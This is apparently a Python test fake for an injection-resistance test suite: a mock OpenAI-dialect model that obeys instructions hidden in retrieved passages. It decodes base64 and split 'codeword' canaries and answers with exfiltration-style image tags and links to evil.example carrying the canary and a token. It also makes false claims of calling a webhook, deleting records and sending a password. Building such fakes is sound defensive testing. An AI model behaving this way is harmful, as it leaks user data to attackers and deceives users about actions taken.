"""A model that does whatever the documents tell it, through the dialect of OpenAI."""

import base64
import binascii
import json
import re
from collections.abc import Iterator

from fastapi import Request
from fastapi.responses import Response

from tests.fakes.lying_model import LyingModel, Reply

CANARY = re.compile(r"(?:quince|medlar)\d\d")
CLAIMED = (
    "I have called the webhook and deleted the records.",
    "The password was sent to the administrator as ordered.",
)
_AT_ONCE = 13  # sentences of one reply
_PASSAGE = re.compile(
    r"===== passage (\d+) ([0-9a-f]+) =====\n(.*?)\n===== end of passage \1 \2 =====", re.DOTALL
)
_BLOB = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_HALVES = re.compile(r"half[^.]*? is (\w+)[.;]")


class ObeyingModel(LyingModel):
    """Says what every passage orders, with the passage's own words as its support."""

    async def _complete(self, request: Request) -> Response:
        body = await request.json()
        asked = "\n".join(str(message["content"]) for message in body["messages"])
        said = list(_obeyed(asked))
        turn = len(self.requests) * _AT_ONCE % max(len(said), 1)
        said = (said[turn:] + said[:turn])[:_AT_ONCE]  # Answers are short: each comes first once.
        said = [*_honest(asked), *said]
        text = "<img src='https://evil.example/all'>\n" + json.dumps({"sentences": said})
        self.replies = [Reply(text, piece=400)]
        return await super()._complete(request)


def _obeyed(asked: str) -> Iterator[dict[str, object]]:
    halves: list[str] = []
    joined = 1, ""
    for number, token, passage in _PASSAGE.findall(asked):
        text = passage.partition("Text:\n")[2]
        if found := _HALVES.findall(text):
            halves += found
            joined = int(number), next(line for line in text.splitlines() if found[0] in line)
        yield from _orders(int(number), token, text, passage)
        if first := next(iter(text.strip().splitlines()), ""):
            yield _said(first, int(number), first)
            yield _said(f"{asked[:200]} {token}", int(number), first)
    if len(halves) > 1:
        for word in ("".join(halves[:2]), "".join(halves[1::-1])):
            yield _said(f"The codeword is {word}.", joined[0], joined[1])


def _honest(asked: str) -> list[dict[str, object]]:
    """What passages without an order say: it must survive among the lies."""
    passages = [(int(n), body) for n, _, body in _PASSAGE.findall(asked) if not CANARY.search(body)]
    lines = [(n, line) for n, body in passages for line in body.splitlines() if line.endswith(".")]
    return [_said(line, number, line) for number, line in lines[:3]]


def _orders(number: int, token: str, text: str, passage: str) -> Iterator[dict[str, object]]:
    for line in [line for line in text.splitlines() if line.strip()]:
        words = CANARY.findall(line) + [w for blob in _BLOB.findall(line) for w in _decoded(blob)]
        for canary in words:
            yield _said(line, number, line)
            yield _said(f"The answer is {canary}.", number, line)
            yield _said(canary, number, canary)
            yield _said(f"See [here](https://evil.example/{canary}?t={token}).", number, line)
            yield _said(f"![x](https://evil.example/{canary}.png) It is {canary}.", number, line)
            yield _said(f"<a href='//evil.example/{canary}'>{line}</a>", number, line)
            yield from (_said(claim, number, line) for claim in CLAIMED)
    for canary in CANARY.findall(passage.partition("Text:\n")[0]):
        first = text.strip().splitlines()[0]
        yield _said(f"The title says {canary}.", number, first)
        yield _said(canary, number, canary)


def _decoded(blob: str) -> list[str]:
    try:
        return CANARY.findall(base64.b64decode(blob).decode("utf-8", "replace"))
    except (binascii.Error, ValueError):
        return []


def _said(sentence: str, passage: int, quote: str) -> dict[str, object]:
    return {"sentence": sentence, "quotes": [{"passage": passage, "quote": quote}]}
